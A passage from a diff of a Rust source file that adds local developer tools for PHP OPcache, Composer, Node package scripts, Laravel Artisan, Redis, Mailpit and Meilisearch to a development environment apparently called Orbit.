+    }
+
+    let memory = &status["memory_usage"];
+    let stats = &status["opcache_statistics"];
+    let used = memory["used_memory"].as_u64().unwrap_or(0);
+    let free = memory["free_memory"].as_u64().unwrap_or(0);
+    let wasted = memory["wasted_memory"].as_u64().unwrap_or(0);
+    let total = used + free + wasted;
+    let percent = |part: u64| if total > 0 { (part as f64 * 1000.0 / total as f64).round() / 10.0 } else { 0.0 };
+    let mut summary = json!({
+        "version": version,
+        "source": source,
+        "enabled": true,
+        "hit_rate": (stats["opcache_hit_rate"].as_f64().unwrap_or(0.0) * 100.0).round() / 100.0,
+        "hits": stats["hits"],
+        "misses": stats["misses"],
+        "cached_scripts": stats["num_cached_scripts"],
+        "max_cached_keys": stats["max_cached_keys"],
+        "memory": {
+            "used_bytes": used,
+            "free_bytes": free,
+            "wasted_bytes": wasted,
+            "used_percent": percent(used),
+            "wasted_percent": percent(wasted)
+        },
+        "cache_full": status["cache_full"],
+        "restarts": {
+            "oom": stats["oom_restarts"],
+            "hash": stats["hash_restarts"],
+            "manual": stats["manual_restarts"]
+        }
+    });
+    if source == "cli" {
+        summary["note"] = json!(format!("PHP {} isn't running; these numbers are from a fresh CLI process, so only 'enabled' reflects the web server's OPcache.", version));
+    }
+    Ok(summary)
+}
+
+fn tool_get_opcache_stats(version: &str) -> Result<String, String> {
+    if version.is_empty() {
+        return Err("PHP version is required".to_string());
+    }
+    let (output, source) = run_opcache_snippet(version, OPCACHE_STATUS_PHP, true)?
+        .ok_or_else(|| format!("PHP {} is not running", version))?;
+    let parsed: Value = serde_json::from_str(output.trim())
+        .map_err(|_| format!("Unexpected output from PHP {}: {}", version, output.trim()))?;
+    let summary = summarize_opcache_status(version, source, &parsed)?;
+    Ok(serde_json::to_string_pretty(&summary).unwrap())
+}
+
+fn tool_reset_opcache(version: &str) -> Result<String, String> {
+    if version.is_empty() {
+        return Err("PHP version is required".to_string());
+    }
+    let Some((output, _)) = run_opcache_snippet(version, OPCACHE_RESET_PHP, false)? else {
+        return Ok(format!("PHP {} is not running, so its OPcache is already empty; it starts fresh on the next start.", version));
+    };
+    let parsed: Value = serde_json::from_str(output.trim())
+        .map_err(|_| format!("Unexpected output from PHP {}: {}", version, output.trim()))?;
+    if parsed["loaded"] != json!(true) {
+        return Err(format!("OPcache is not loaded for PHP {}; there is nothing to reset.", version));
+    }
+    if parsed["reset"] != json!(true) {
+        return Err(format!("opcache_reset() failed for PHP {}: OPcache is disabled or restricted by opcache.restrict_api.", version));
+    }
+    Ok(format!("Cleared the OPcache of PHP {}. Scripts are recompiled on their next request.", version))
+}
+
 // ─── Composer Tools ──────────────────────────────────────────────
 
+/// Tool response with stdout, stderr and the exit code kept separate;
+/// a non-zero exit is returned as an error carrying the same fields.
+fn command_result_response(result: CommandResult) -> Result<String, String> {
+    let success = result.success();
+    let body = serde_json::to_string_pretty(&json!({
+        "success": success,
+        "exit_code": result.code,
+        "stdout": result.stdout,
+        "stderr": result.stderr
+    })).unwrap();
+    if success { Ok(body) } else { Err(body) }
+}
+
 fn tool_composer_require(project_path: &str, package: &str, dev: bool) -> Result<String, String> {
     if project_path.is_empty() || package.is_empty() {
         return Err("Project path and package are required".to_string());
@@ -3552,74 +9256,261 @@ fn tool_composer_require(project_path: &str, package: &str, dev: bool) -> Result
     let composer = find_composer_phar(&bin_dir)?;
 
     let mut cmd = hidden_command(&php);
-    cmd.arg(&composer).arg("require");
-    if dev {
-        cmd.arg("--dev");
-    }
-    cmd.arg(package).arg("--no-interaction");
+    cmd.arg(&composer).arg("require");
+    if dev {
+        cmd.arg("--dev");
+    }
+    cmd.arg(package).arg("--no-interaction");
+    cmd.current_dir(project_path);
+
+    let output = run_command(&mut cmd, "composer")
+        .map_err(|e| format!("Failed to run composer: {}", e))?;
+
+    command_result_response(output)
+}
+
+fn tool_composer_install(project_path: &str) -> Result<String, String> {
+    if project_path.is_empty() {
+        return Err("Project path is required".to_string());
+    }
+
+    let bin_dir = get_bin_dir();
+    let php = find_php_exe(&bin_dir)?;
+    let composer = find_composer_phar(&bin_dir)?;
+
+    let output = run_command(
+        hidden_command(&php)
+            .arg(&composer).arg("install").arg("--no-interaction")
+            .current_dir(project_path),
+        "composer",
+    )
+        .map_err(|e| format!("Failed to run composer: {}", e))?;
+
+    command_result_response(output)
+}
+
+fn tool_composer_run(project_path: &str, script: &str) -> Result<String, String> {
+    if project_path.is_empty() || script.is_empty() {
+        return Err("Project path and script are required".to_string());
+    }
+
+    let bin_dir = get_bin_dir();
+    let php = find_php_exe(&bin_dir)?;
+    let composer = find_composer_phar(&bin_dir)?;
+
+    let output = run_command(
+        hidden_command(&php)
+            .arg(&composer).arg("run-script").arg(script).arg("--no-interaction")
+            .current_dir(project_path),
+        "composer",
+    )
+        .map_err(|e| format!("Failed to run composer: {}", e))?;
+
+    command_result_response(output)
+}
+
+/// Run a read-only composer command in a project. Package names are passed
+/// as arguments, so one starting with '-' would be taken as an option.
+fn run_composer_query(project_path: &str, package: Option<&str>, args: &[&str]) -> Result<CommandResult, String> {
+    if project_path.is_empty() || package.is_some_and(|p| p.is_empty()) {
+        return Err(if package.is_some() { "Project path and package are required" } else { "Project path is required" }.to_string());
+    }
+    if package.is_some_and(|p| p.starts_with('-')) {
+        return Err(format!("Invalid package name: {}", package.unwrap_or("")));
+    }
+
+    let bin_dir = get_bin_dir();
+    let php = find_php_exe(&bin_dir)?;
+    let composer = find_composer_phar(&bin_dir)?;
+
+    let mut cmd = hidden_command(&php);
+    cmd.arg(&composer).args(args).args(package).arg("--no-interaction").arg("--no-ansi");
     cmd.current_dir(project_path);
+    run_command(&mut cmd, "composer")
+        .map_err(|e| format!("Failed to run composer: {}", e))
+}
 
-    let output = cmd.output()
-        .map_err(|e| format!("Failed to run composer: {}", e))?;
+/// Pretty-printed JSON from a `--format=json` run; falls back to the plain
+/// stdout/stderr/exit_code response when composer failed or printed no JSON.
+fn composer_json_response(result: CommandResult) -> Result<String, String> {
+    if result.success() {
+        if let Ok(parsed) = serde_json::from_str::<Value>(result.stdout.trim()) {
+            return Ok(serde_json::to_string_pretty(&parsed).unwrap());
+        }
+    }
+    command_result_response(result)
+}
 
-    let stdout = String::from_utf8_lossy(&output.stdout);
-    let stderr = String::from_utf8_lossy(&output.stderr);
+fn tool_composer_outdated(project_path: &str) -> Result<String, String> {
+    composer_json_response(run_composer_query(project_path, None, &["outdated", "--format=json"])?)
+}
 
-    if output.status.success() {
-        Ok(format!("{}{}", stdout, stderr))
+fn tool_composer_show(project_path: &str, package: &str) -> Result<String, String> {
+    composer_json_response(run_composer_query(project_path, Some(package), &["show", "--format=json"])?)
+}
+
+fn tool_composer_why(project_path: &str, package: &str) -> Result<String, String> {
+    // `composer why` has no JSON output
+    command_result_response(run_composer_query(project_path, Some(package), &["why"])?)
+}
+
+// ─── Node Script Tools ───────────────────────────────────────────
+
+const PACKAGE_MANAGERS: &[&str] = &["npm", "yarn", "pnpm", "bun"];
+
+/// Package manager a project uses, going by its lockfile; npm when there is none
+fn detect_package_manager(project: &std::path::Path) -> &'static str {
+    const LOCKFILES: &[(&str, &str)] = &[
+        ("bun.lockb", "bun"),
+        ("bun.lock", "bun"),
+        ("pnpm-lock.yaml", "pnpm"),
+        ("yarn.lock", "yarn"),
+        ("package-lock.json", "npm"),
+    ];
+    LOCKFILES.iter()
+        .find(|(file, _)| project.join(file).exists())
+        .map(|(_, manager)| *manager)
+        .unwrap_or("npm")
+}
+
+/// The package manager's executable from bin/nodejs (npm, yarn, pnpm; .cmd
+/// shims on Windows) or bin/bun, else the bare name for PATH to resolve.
+fn package_manager_exe(bin_dir: &std::path::Path, manager: &str) -> PathBuf {
+    let local = if manager == "bun" {
+        bin_dir.join("bun").join(exe_name("bun"))
+    } else if cfg!(target_os = "windows") {
+        bin_dir.join("nodejs").join(format!("{}.cmd", manager))
     } else {
-        Err(format!("Composer error:\n{}{}", stdout, stderr))
-    }
+        bin_dir.join("nodejs").join(manager)
+    };
+    if local.exists() { local } else { PathBuf::from(manager) }
 }
 
-fn tool_composer_install(project_path: &str) -> Result<String, String> {
-    if project_path.is_empty() {
-        return Err("Project path is required".to_string());
+/// PATH for Node scripts: the project's node_modules/.bin, then Orbit's
+/// nodejs and bun, then the inherited PATH
+fn node_script_path(bin_dir: &std::path::Path, project: &std::path::Path) -> Option<std::ffi::OsString> {
+    let dirs = [project.join("node_modules").join(".bin"), bin_dir.join("nodejs"), bin_dir.join("bun")];
+    let inherited = std::env::var_os("PATH").unwrap_or_default();
+    let paths = dirs.into_iter().filter(|dir| dir.exists()).chain(std::env::split_paths(&inherited));
+    std::env::join_paths(paths).ok()
+}
+
+fn tool_npm_run(project_path: &str, script: &str, package_manager: Option<&str>) -> Result<String, String> {
+    if project_path.is_empty() || script.is_empty() {
+        return Err("Project path and script are required".to_string());
     }
+    let project = std::path::Path::new(project_path);
+    let package_json = fs::read_to_string(project.join("package.json"))
+        .map_err(|e| format!("Failed to read package.json in {}: {}", project_path, e))?;
+    let package: Value = serde_json::from_str(&package_json)
+        .map_err(|e| format!("Failed to parse package.json: {}", e))?;
+    let scripts = package.get("scripts").and_then(|v| v.as_object());
+    if !scripts.is_some_and(|scripts| scripts.contains_key(script)) {
+        let available: Vec<&str> = scripts.map(|s| s.keys().map(|k| k.as_str()).collect()).unwrap_or_default();
+        return Err(format!("Script '{}' not found in package.json. Available: {}", script,
+            if available.is_empty() { "none".to_string() } else { available.join(", ") }));
+    }
+
+    let manager = match package_manager {
+        Some(manager) => *PACKAGE_MANAGERS.iter().find(|m| **m == manager)
+            .ok_or_else(|| format!("Unknown package manager: {}. Use one of: {}", manager, PACKAGE_MANAGERS.join(", ")))?,
+        None => detect_package_manager(project),
+    };
 
     let bin_dir = get_bin_dir();
-    let php = find_php_exe(&bin_dir)?;
-    let composer = find_composer_phar(&bin_dir)?;
+    let mut cmd = hidden_command(package_manager_exe(&bin_dir, manager));
+    cmd.arg("run").arg(script).current_dir(project);
+    if let Some(path) = node_script_path(&bin_dir, project) {
+        cmd.env("PATH", path);
+    }
+    let result = run_command(&mut cmd, "npm")
+        .map_err(|e| format!("Failed to run {}: {}", manager, e))?;
 
-    let output = hidden_command(&php)
-        .arg(&composer).arg("install").arg("--no-interaction")
-        .current_dir(project_path)
-        .output()
-        .map_err(|e| format!("Failed to run composer: {}", e))?;
+    let success = result.success();
+    let body = serde_json::to_string_pretty(&json!({
+        "package_manager": manager,
+        "command": format!("{} run {}", manager, script),
+        "success": success,
+        "exit_code": result.code,
+        "output": result.combined()
+    })).unwrap();
+    if success { Ok(body) } else { Err(body) }
+}
 
-    let stdout = String::from_utf8_lossy(&output.stdout);
-    let stderr = String::from_utf8_lossy(&output.stderr);
+// ─── Laravel Artisan Tools ───────────────────────────────────────
 
-    if output.status.success() {
-        Ok(format!("{}{}", stdout, stderr))
-    } else {
-        Err(format!("Composer error:\n{}{}", stdout, stderr))
+/// Laravel project root for a site: its path, or the parent when the site
+/// points at `public/`. `None` unless an `artisan` script is present.
+fn laravel_project_root(site_path: &str) -> Option<PathBuf> {
+    let path = PathBuf::from(site_path);
+    let parent = path.parent().filter(|_| path.ends_with("public")).map(PathBuf::from);
+    std::iter::once(path.clone())
+        .chain(parent)
+        .find(|dir| dir.join("artisan").is_file())
+}
+
+/// The site's configured PHP when installed, else any bundled PHP.
+fn site_php_exe(bin_dir: &PathBuf, php_version: Option<&str>) -> Result<PathBuf, String> {
+    if let Some(ver) = php_version {
+        let exe = bin_dir.join("php").join(ver).join(exe_name("php"));
+        if exe.exists() {
+            return Ok(exe);
+        }
     }
+    find_php_exe(bin_dir)
 }
 
-fn tool_composer_run(project_path: &str, script: &str) -> Result<String, String> {
-    if project_path.is_empty() || script.is_empty() {
-        return Err("Project path and script are required".to_string());
+/// Run `php artisan <args>` in a Laravel site's project root.
+fn run_artisan(domain: &str, artisan_args: &[&str]) -> Result<String, String> {
+    if domain.is_empty() {
+        return Err("Domain is required".to_string());
     }
 
+    let store = read_sites_store()?;
+    let site = store.sites.iter().find(|s| s.domain == domain)
+        .ok_or_else(|| format!("Site '{}' not found", domain))?;
+    let project_root = laravel_project_root(&site.path)
+        .ok_or_else(|| format!("Site '{}' is not a Laravel project (no artisan file in {})", domain, site.path))?;
+
     let bin_dir = get_bin_dir();
-    let php = find_php_exe(&bin_dir)?;
-    let composer = find_composer_phar(&bin_dir)?;
+    let php = site_php_exe(&bin_dir, site.php_version.as_deref())?;
 
-    let output = hidden_command(&php)
-        .arg(&composer).arg("run-script").arg(script).arg("--no-interaction")
-        .current_dir(project_path)
-        .output()
-        .map_err(|e| format!("Failed to run composer: {}", e))?;
+    let output = run_command(
+        hidden_command(&php)
+            .arg("artisan").args(artisan_args).arg("--no-interaction")
+            .current_dir(&project_root),
+        "artisan",
+    )
+        .map_err(|e| format!("Failed to run artisan: {}", e))?;
 
-    let stdout = String::from_utf8_lossy(&output.stdout);
-    let stderr = String::from_utf8_lossy(&output.stderr);
+    command_result_response(output)
+}
 
-    if output.status.success() {
-        Ok(format!("{}{}", stdout, stderr))
+fn tool_artisan_migrate(domain: &str) -> Result<String, String> {
+    run_artisan(domain, &["migrate", "--force"])
+}
+
+fn tool_artisan_migrate_fresh(domain: &str, seed: bool) -> Result<String, String> {
+    if seed {
+        run_artisan(domain, &["migrate:fresh", "--force", "--seed"])
     } else {
-        Err(format!("Composer error:\n{}{}", stdout, stderr))
+        run_artisan(domain, &["migrate:fresh", "--force"])
+    }
+}
+
+fn tool_artisan_tinker(domain: &str, expr: &str) -> Result<String, String> {
+    if expr.trim().is_empty() {
+        return Err("Expression is required".to_string());
     }
+    run_artisan(domain, &["tinker", &format!("--execute={}", expr)])
+}
+
+fn tool_artisan_route_list(domain: &str) -> Result<String, String> {
+    run_artisan(domain, &["route:list", "--json"])
+}
+
+fn tool_artisan_cache_clear(domain: &str) -> Result<String, String> {
+    run_artisan(domain, &["cache:clear"])
 }
 
 // ─── Redis Tools ─────────────────────────────────────────────────
@@ -3636,21 +9527,20 @@ fn tool_redis_command(command: &str) -> Result<String, String> {
     // Split command into args
     let parts: Vec<&str> = command.split_whitespace().collect();
 
-    let output = hidden_command(&redis_cli)
-        .arg("-h").arg("127.0.0.1")
-        .arg("-p").arg("6379")
-        .args(&parts)
-        .output()
+    let output = run_command(
+        hidden_command(&redis_cli)
+            .arg("-h").arg("127.0.0.1")
+            .arg("-p").arg("6379")
+            .args(&parts),
+        "db",
+    )
         .map_err(|e| format!("Failed to run redis-cli: {}. Is Redis running?", e))?;
 
-    let stdout = String::from_utf8_lossy(&output.stdout);
-    let stderr = String::from_utf8_lossy(&output.stderr);
-
-    if !stderr.trim().is_empty() && !output.status.success() {
-        return Err(format!("Redis error: {}", stderr.trim()));
+    if !output.stderr.trim().is_empty() && !output.success() {
+        return Err(format!("Redis error: {}", output.error_detail()));
     }
 
-    Ok(stdout.to_string())
+    Ok(output.stdout)
 }
 
 fn tool_redis_info() -> Result<String, String> {
@@ -3658,19 +9548,93 @@ fn tool_redis_info() -> Result<String, String> {
     let bin_dir = get_bin_dir();
     let redis_cli = find_redis_cli(&bin_dir)?;
 
-    let output = hidden_command(&redis_cli)
-        .arg("-h").arg("127.0.0.1")
-        .arg("-p").arg("6379")
-        .arg("INFO")
-        .output()
+    let output = run_command(
+        hidden_command(&redis_cli)
+            .arg("-h").arg("127.0.0.1")
+            .arg("-p").arg("6379")
+            .arg("INFO"),
+        "db",
+    )
         .map_err(|e| format!("Failed to run redis-cli: {}. Is Redis running?", e))?;
 
-    if !output.status.success() {
-        let stderr = String::from_utf8_lossy(&output.stderr);
-        return Err(format!("Redis error: {}", stderr.trim()));
+    if !output.success() {
+        return Err(format!("Redis error: {}", output.error_detail()));
+    }
+
+    Ok(output.stdout)
+}
+
+/// Most keys redis_scan returns in one call
+const REDIS_SCAN_MAX_KEYS: u64 = 10_000;
+/// SCAN round trips before redis_scan stops and reports a partial result
+const REDIS_SCAN_MAX_ROUNDS: usize = 1_000;
+
+/// Run redis-cli against logical database `db` (`-n`)
+fn run_redis_cli(db: u64, args: &[&str]) -> Result<String, String> {
+    let bin_dir = get_bin_dir();
+    let redis_cli = find_redis_cli(&bin_dir)?;
+
+    let output = run_command(
+        hidden_command(&redis_cli)
+            .arg("-h").arg("127.0.0.1")
+            .arg("-p").arg("6379")
+            .arg("-n").arg(db.to_string())
+            .args(args),
+        "db",
+    )
+        .map_err(|e| format!("Failed to run redis-cli: {}. Is Redis running?", e))?;
+
+    // redis-cli exits 0 on command errors and prints them on stdout
+    if !output.success() || output.stdout.starts_with("ERR") || output.stdout.starts_with("(error)") {
+        return Err(format!("Redis error: {}", output.error_detail()));
+    }
+
+    Ok(output.stdout)
+}
+
+/// Walk `SCAN` cursors (never `KEYS`, which blocks the server) until `count`
+/// matching keys are found or the keyspace has been covered.
+fn tool_redis_scan(pattern: &str, db: u64, count: u64) -> Result<String, String> {
+    require_service("redis")?;
+    let pattern = if pattern.is_empty() { "*" } else { pattern };
+    let count = count.clamp(1, REDIS_SCAN_MAX_KEYS) as usize;
+
+    let mut keys: Vec<String> = Vec::new();
+    let mut cursor = "0".to_string();
+    let mut rounds = 0;
+    loop {
+        let output = run_redis_cli(db, &["SCAN", &cursor, "MATCH", pattern, "COUNT", "500"])?;
+        let mut lines = output.lines();
+        cursor = lines.next().unwrap_or("0").trim().to_string();
+        keys.extend(lines.filter(|k| !k.is_empty()).map(|k| k.to_string()));
+        rounds += 1;
+        if cursor == "0" || keys.len() >= count || rounds >= REDIS_SCAN_MAX_ROUNDS {
+            break;
+        }
     }
 
-    Ok(String::from_utf8_lossy(&output.stdout).to_string())
+    // SCAN may return a key more than once
+    keys.sort();
+    keys.dedup();
+    let complete = cursor == "0" && keys.len() <= count;
+    keys.truncate(count);
+    Ok(serde_json::to_string_pretty(&json!({
+        "db": db,
+        "pattern": pattern,
+        "count": keys.len(),
+        "complete": complete,
+        "keys": keys,
+    })).unwrap())
+}
+
+fn tool_redis_flushdb(db: Option<u64>) -> Result<String, String> {
+    require_service("redis")?;
+    // No default: flushing the wrong database must take a deliberate choice
+    let db = db.ok_or("db is required: pass the database index to flush (e.g. 0)")?;
+
+    let size = run_redis_cli(db, &["DBSIZE"])?.trim().parse::<u64>().unwrap_or(0);
+    run_redis_cli(db, &["FLUSHDB"])?;
+    Ok(format!("Flushed Redis database {} ({} keys removed)", db, size))
 }
 
 // ─── Mailpit Tools ───────────────────────────────────────────────
@@ -3696,78 +9660,492 @@ fn mailpit_http(method: &str, path: &str) -> Result<String, String> {
     stream.read_to_end(&mut response)
         .map_err(|e| format!("Failed to read response: {}", e))?;
 
-    let response_str = String::from_utf8_lossy(&response);
+    http_response_body(&response)
+}
 
-    // Extract body after \r\n\r\n
-    if let Some(body_start) = response_str.find("\r\n\r\n") {
-        let body = &response_str[body_start + 4..];
-        // Handle chunked transfer encoding
-        if response_str.contains("Transfer-Encoding: chunked") {
-            // Simple chunked decoder: skip chunk sizes
-            let mut decoded = String::new();
-            let mut remaining = body;
-            loop {
-                let remaining_trimmed = remaining.trim_start();
-                if let Some(newline_pos) = remaining_trimmed.find("\r\n") {
-                    let size_str = &remaining_trimmed[..newline_pos];
-                    let chunk_size = usize::from_str_radix(size_str.trim(), 16).unwrap_or(0);
-                    if chunk_size == 0 {
-                        break;
-                    }
-                    let data_start = newline_pos + 2;
-                    let data_end = data_start + chunk_size;
-                    if data_end <= remaining_trimmed.len() {
-                        decoded.push_str(&remaining_trimmed[data_start..data_end]);
-                        remaining = &remaining_trimmed[data_end..];
-                    } else {
-                        decoded.push_str(&remaining_trimmed[data_start..]);
-                        break;
-                    }
-                } else {
-                    decoded.push_str(remaining_trimmed);
-                    break;
+/// Split an HTTP/1.1 response into its body, decoding chunked transfer
+/// encoding over raw bytes before converting to UTF-8.
+fn http_response_body(response: &[u8]) -> Result<String, String> {
+    let Some(header_end) = response.windows(4).position(|w| w == b"\r\n\r\n") else {
+        return Ok(String::from_utf8_lossy(response).to_string());
+    };
+    let headers = String::from_utf8_lossy(&response[..header_end]);
+    let body = &response[header_end + 4..];
+
+    let chunked = headers.lines().any(|line| {
+        line.split_once(':').is_some_and(|(name, value)| {
+            name.trim().eq_ignore_ascii_case("transfer-encoding")
+                && value.to_ascii_lowercase().contains("chunked")
+        })
+    });
+
+    if chunked {
+        let decoded = decode_chunked(body)?;
+        Ok(String::from_utf8_lossy(&decoded).to_string())
+    } else {
+        Ok(String::from_utf8_lossy(body).to_string())
+    }
+}
+
+/// Decode a chunked body: `<hex size>[;ext]\r\n<data>\r\n` ... `0\r\n\r\n`.
+fn decode_chunked(mut body: &[u8]) -> Result<Vec<u8>, String> {
+    let mut decoded = Vec::new();
+    loop {
+        let line_end = body.windows(2).position(|w| w == b"\r\n")
+            .ok_or("Malformed chunked response: missing chunk size line")?;
+        let size_line = String::from_utf8_lossy(&body[..line_end]);
+        let size_hex = size_line.split(';').next().unwrap_or("").trim();
+        let size = usize::from_str_radix(size_hex, 16)
+            .map_err(|_| format!("Malformed chunked response: invalid chunk size '{}'", size_hex))?;
+        body = &body[line_end + 2..];
+
+        if size == 0 {
+            // Trailers (if any) follow the last chunk; nothing we need from them
+            return Ok(decoded);
+        }
+        if body.len() < size {
+            return Err(format!("Truncated chunked response: expected {} bytes, got {}", size, body.len()));
+        }
+        decoded.extend_from_slice(&body[..size]);
+        body = &body[size..];
+        body = body.strip_prefix(b"\r\n")
+            .ok_or("Malformed chunked response: missing CRLF after chunk data")?;
+    }
+}
+
+fn tool_list_emails(limit: usize) -> Result<String, String> {
+    require_service("mailpit")?;
+    let response = mailpit_http("GET", &format!("/api/v1/messages?limit={}", limit))?;
+
+    // Try to pretty-print JSON
+    if let Ok(parsed) = serde_json::from_str::<Value>(&response) {
+        Ok(serde_json::to_string_pretty(&parsed).unwrap())
+    } else {
+        Ok(response)
+    }
+}
+
+/// Read one (possibly multi-line) SMTP reply and check its status class.
+fn smtp_expect(reader: &mut impl BufRead, expected: char) -> Result<String, String> {
+    let mut reply = String::new();
+    loop {
+        let mut line = String::new();
+        let n = reader.read_line(&mut line)
+            .map_err(|e| format!("Failed to read SMTP reply: {}", e))?;
+        if n == 0 {
+            return Err("Mailpit closed the SMTP connection".to_string());
+        }
+        reply.push_str(&line);
+        // "250-..." continues, "250 ..." ends the reply
+        if line.len() < 4 || line.as_bytes()[3] != b'-' {
+            break;
+        }
+    }
+    if reply.starts_with(expected) {
+        Ok(reply)
+    } else {
+        Err(format!("SMTP error: {}", reply.trim()))
+    }
+}
+
+fn tool_send_test_email(to: &str, subject: &str, body: &str) -> Result<String, String> {
+    use std::net::{SocketAddr, TcpStream};
+
+    require_service("mailpit")?;
+    let to = if to.is_empty() { "test@orbit.test" } else { to };
+    let subject = if subject.is_empty() { "Orbit test email" } else { subject };
+    let body = if body.is_empty() { "This is a test email sent by Orbit to verify Mailpit is catching mail." } else { body };
+    if to.contains(['\r', '\n', '<', '>']) || subject.contains(['\r', '\n']) {
+        return Err("Recipient and subject must be single-line values".to_string());
+    }
+
+    let nanos = std::time::SystemTime::now()
+        .duration_since(std::time::UNIX_EPOCH)
+        .map(|d| d.as_nanos())
+        .unwrap_or(0);
+    let message_id = format!("orbit-test-{}@orbit.test", nanos);
+    let from = "orbit@orbit.test";
+
+    let addr = SocketAddr::from(([127, 0, 0, 1], 1025));
+    let stream = TcpStream::connect_timeout(&addr, std::time::Duration::from_secs(3))
+        .map_err(|e| format!("Failed to connect to Mailpit SMTP on 1025: {}", e))?;
+    stream.set_read_timeout(Some(std::time::Duration::from_secs(5))).ok();
+    let mut writer = stream.try_clone().map_err(|e| format!("SMTP stream error: {}", e))?;
+    let mut reader = io::BufReader::new(stream);
+
+    let mut send = |line: &str, expected: char, reader: &mut io::BufReader<TcpStream>| -> Result<String, String> {
+        writer.write_all(format!("{}\r\n", line).as_bytes())
+            .map_err(|e| format!("Failed to send SMTP command: {}", e))?;
+        smtp_expect(reader, expected)
+    };
+
+    smtp_expect(&mut reader, '2')?;
+    send("HELO orbit.test", '2', &mut reader)?;
+    send(&format!("MAIL FROM:<{}>", from), '2', &mut reader)?;
+    send(&format!("RCPT TO:<{}>", to), '2', &mut reader)?;
+    send("DATA", '3', &mut reader)?;
+
+    // Dot-stuff lines starting with '.' so they aren't read as the terminator
+    let stuffed: Vec<String> = body
+        .lines()
+        .map(|l| if l.starts_with('.') { format!(".{}", l) } else { l.to_string() })
+        .collect();
+    let message = format!(
+        "From: Orbit <{}>\r\nTo: <{}>\r\nSubject: {}\r\nMessage-ID: <{}>\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n{}\r\n.",
+        from, to, subject, message_id, stuffed.join("\r\n")
+    );
+    send(&message, '2', &mut reader)?;
+    let _ = send("QUIT", '2', &mut reader);
+
+    // Mailpit indexes the message asynchronously; poll for its ID
+    for _ in 0..10 {
+        if let Ok(response) = mailpit_http("GET", "/api/v1/messages?limit=20") {
+            if let Ok(parsed) = serde_json::from_str::<Value>(&response) {
+                let found = parsed["messages"].as_array().and_then(|msgs| {
+                    msgs.iter().find(|m| m["MessageID"].as_str() == Some(message_id.as_str()))
+                });
+                if let Some(msg) = found {
+                    return Ok(serde_json::to_string_pretty(&json!({
+                        "sent": true,
+                        "id": msg["ID"],
+                        "message_id": message_id,
+                        "to": to,
+                        "subject": subject
+                    })).unwrap());
                 }
             }
-            Ok(decoded)
-        } else {
-            Ok(body.to_string())
         }
+        std::thread::sleep(std::time::Duration::from_millis(300));
+    }
+
+    Ok(serde_json::to_string_pretty(&json!({
+        "sent": true,
+        "id": null,
+        "message_id": message_id,
+        "note": "Mailpit accepted the message but it did not appear in /api/v1/messages yet"
+    })).unwrap())
+}
+
+fn tool_get_email(id: &str) -> Result<String, String> {
+    require_service("mailpit")?;
+    if id.is_empty() {
+        return Err("Email ID is required".to_string());
+    }
+
+    let response = mailpit_http("GET", &format!("/api/v1/message/{}", id))?;
+
+    if let Ok(parsed) = serde_json::from_str::<Value>(&response) {
+        Ok(serde_json::to_string_pretty(&parsed).unwrap())
     } else {
-        Ok(response_str.to_string())
+        Ok(response)
     }
 }
 
-fn tool_list_emails(limit: usize) -> Result<String, String> {
+fn tool_delete_emails() -> Result<String, String> {
     require_service("mailpit")?;
-    let response = mailpit_http("GET", &format!("/api/v1/messages?limit={}", limit))?;
+    mailpit_http("DELETE", "/api/v1/messages")?;
+    Ok("All emails deleted from Mailpit".to_string())
+}
+
+// ─── Meilisearch Tools ───────────────────────────────────────────
+
+fn meili_http(method: &str, path: &str, body: Option<&Value>) -> Result<Value, String> {
+    use std::io::{Read as IoRead, Write as StreamWrite};
+    use std::net::TcpStream;
+
+    let mut stream = TcpStream::connect("127.0.0.1:7700")
+        .map_err(|e| format!("Failed to connect to Meilisearch: {}. Is Meilisearch running?", e))?;
+
+    stream.set_read_timeout(Some(std::time::Duration::from_secs(10))).ok();
+
+    let payload = body.map(|b| b.to_string()).unwrap_or_default();
+    let request = format!(
+        "{} {} HTTP/1.1\r\nHost: 127.0.0.1:7700\r\nAccept: application/json\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{}",
+        method, path, payload.len(), payload
+    );
+
+    stream.write_all(request.as_bytes())
+        .map_err(|e| format!("Failed to send request: {}", e))?;
+
+    let mut response = Vec::new();
+    stream.read_to_end(&mut response)
+        .map_err(|e| format!("Failed to read response: {}", e))?;
+
+    // "HTTP/1.1 404 Not Found" — Meilisearch reports errors as JSON with a message
+    let status: u16 = String::from_utf8_lossy(&response)
+        .split_whitespace()
+        .nth(1)
+        .and_then(|code| code.parse().ok())
+        .unwrap_or(0);
+    let body = http_response_body(&response)?;
+    let parsed: Value = serde_json::from_str(&body)
+        .map_err(|_| format!("Unexpected Meilisearch response (HTTP {}): {}", status, body.trim()))?;
+
+    if !(200..300).contains(&status) {
+        let message = parsed["message"].as_str().unwrap_or(body.trim());
+        return Err(format!("Meilisearch error (HTTP {}): {}", status, message));
+    }
+    Ok(parsed)
+}
+
+fn tool_meili_status() -> Result<String, String> {
+    require_service("meilisearch")?;
+    let health = meili_http("GET", "/health", None)?;
+    let version = meili_http("GET", "/version", None)?;
+    let stats = meili_http("GET", "/stats", None)?;
+
+    Ok(serde_json::to_string_pretty(&json!({
+        "status": health["status"],
+        "version": version["pkgVersion"],
+        "url": "http://127.0.0.1:7700",
+        "database_size": format_size(stats["databaseSize"].as_u64().unwrap_or(0)),
+        "last_update": stats["lastUpdate"],
+        "indexes": stats["indexes"].as_object().map(|i| i.len()).unwrap_or(0)
+    })).unwrap())
+}
+
+fn tool_meili_list_indexes() -> Result<String, String> {
+    require_service("meilisearch")?;
+    let indexes = meili_http("GET", "/indexes?limit=1000", None)?;
+    let stats = meili_http("GET", "/stats", None)?;
+
+    let result: Vec<Value> = indexes["results"].as_array()
+        .map(|list| {
+            list.iter().map(|index| {
+                let uid = index["uid"].as_str().unwrap_or("");
+                json!({
+                    "uid": uid,
+                    "primary_key": index["primaryKey"],
+                    "documents": stats["indexes"][uid]["numberOfDocuments"],
+                    "is_indexing": stats["indexes"][uid]["isIndexing"],
+                    "updated_at": index["updatedAt"]
+                })
+            }).collect()
+        })
+        .unwrap_or_default();
+
+    Ok(serde_json::to_string_pretty(&result).unwrap())
+}
+
+fn tool_meili_search(index: &str, query: &str, limit: usize) -> Result<String, String> {
+    require_service("meilisearch")?;
+    if index.is_empty() {
+        return Err("Index is required".to_string());
+    }
+    // Index uids are alphanumeric plus hyphens and underscores
+    if !index.chars().all(|c| c.is_ascii_alphanumeric() || c == '-' || c == '_') {
+        return Err(format!("Invalid index name '{}'", index));
+    }
+
+    let result = meili_http(
+        "POST",
+        &format!("/indexes/{}/search", index),
